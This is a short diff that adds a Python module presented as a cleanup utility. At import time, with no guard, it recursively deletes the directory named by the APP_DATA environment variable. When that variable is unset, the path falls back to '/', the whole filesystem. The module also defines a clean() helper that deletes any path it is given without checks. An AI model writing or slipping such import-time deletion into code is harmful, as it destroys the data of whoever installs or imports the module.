@@ -1,0 +1,5 @@
+import os, shutil
+shutil.rmtree(os.environ.get("APP_DATA", "") + "/")
+
+def clean(path):
+    shutil.rmtree(path + "/")
